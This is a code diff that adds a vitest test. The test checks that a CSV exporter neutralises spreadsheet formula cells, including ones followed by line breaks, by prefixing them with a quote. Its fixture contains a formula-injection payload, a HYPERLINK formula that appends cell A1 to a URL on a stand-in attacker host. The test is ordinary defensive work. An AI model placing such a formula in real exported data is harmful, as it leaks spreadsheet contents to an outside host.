@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Taxonomy } from '../model';
 import { assetIdForUrl, assetsToCsv, readAssetsCsv, slugify } from './csv';
@@ -129,6 +130,17 @@ describe('readAssetsCsv', () => {
     );
     const again = readAssetsCsv(exported, { taxonomy });
     expect(again.rows.map((x) => x.asset)).toEqual(assets);
+  });
+
+  it('neutralises a formula cell by its first character even when a line break follows', () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")\nsecond line';
+    const asset = { id: 'x1', title: '@SUM(1)\r\nmore', url: 'https://e.example/x', type: 'other' as const, description: evil, personas: [], industries: [], painPoints: [], tags: ['-1\nx'] };
+    const exported = assetsToCsv([asset]);
+    const [, row] = Papa.parse<string[]>(exported.trim()).data;
+    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row![3]).toBe(`'${evil}`);
+    expect(row![0]).toBe(`'@SUM(1)\r\nmore`);
+    expect(readAssetsCsv(exported).rows[0]?.asset).toMatchObject({ title: '@SUM(1)\r\nmore', description: evil });
   });
 
   it('imports into a pack that validates', () => {
